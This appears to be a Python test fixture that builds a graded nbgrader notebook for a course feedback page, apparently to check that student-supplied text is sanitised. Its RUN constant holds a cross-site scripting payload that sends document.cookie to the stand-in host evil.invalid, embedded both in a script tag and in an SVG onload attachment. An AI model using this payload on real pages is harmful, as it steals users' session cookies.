"""The notebook behind a feedback page with one exercise, whose texts come from a student."""

from __future__ import annotations

from nbformat.v4 import new_code_cell, new_markdown_cell, new_notebook

PIXEL = (
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII="
)
RUN = "document.title='ran';fetch('http://evil.invalid/'+document.cookie)"
SCRIPT = f"<script>{RUN}</script>"
MESSAGE = """output_size: 3 of 7 cases pass.
  Called   output_size(size, kernel_size, stride=2)
  Problem  it returned 7, which is wrong
  Line     line 3 of the cell, in output_size: return size // stride
  Mistake  The last + 1 is missing.
  Hint     Count the first position, too.
  Passed   plain 3/4, all together 0/3"""


def score(name, points, of, message, review=None, culprit=None):
    passed = points == of
    told = {"passed": passed, "message": message, "review": review, "culprit": culprit}
    return {"points": points, "of": of, **told}


def mark(cell, **fields):
    cell.metadata["nbgrader"] = {"schema_version": 3, "locked": False, **fields}
    return cell


def student_page(texts=(), *, scores=None, extra=(), late=0.0, reason=None, repairs=(), **check):
    """Make the notebook and resources of a page with one exercise and a student's texts."""
    answer = new_code_cell("\n".join(["def output_size():", *texts]), outputs=list(extra))
    cells = [
        new_markdown_cell("# Title\n\nRead this."),
        new_markdown_cell("## 1. Count\n\nHow many? $D\\,(K - 1) + 1$\n\n$$\nout[i, j]\n$$"),
        mark(answer, grade_id="solution_output_size", solution=True, grade=False, comment=""),
        mark(
            new_code_cell('check("output_size")'),
            **{
                "grade_id": "output_size",
                "solution": False,
                "grade": True,
                "score": 1.5,
                "points": 2.0,
                "by_person": False,
                "waiting": False,
                **check,
            },
        ),
        *[new_markdown_cell(text, id=f"extra_{i}") for i, text in enumerate(texts)],
    ]
    for cell in cells:
        if cell.id.startswith("extra_"):
            cell.attachments = {
                "a.svg": {"image/svg+xml": f"<svg onload='{RUN}'>"},
                "b.png": {"image/png": PIXEL},
            }
    known = {
        "title": "Demo",
        "scores": scores or {"output_size": score("output_size", 1.5, 2.0, MESSAGE)},
        "repairs": list(repairs),
        "reason": reason,
        "seed": 987654321,
    }
    fields = {"student": "ann", "assignment": "01_demo", "score": 1.5 - late, "max_score": 2.0}
    notebook = new_notebook(cells=cells, metadata={"cnncourse": known})
    return notebook, {**fields, "late_penalty": late}
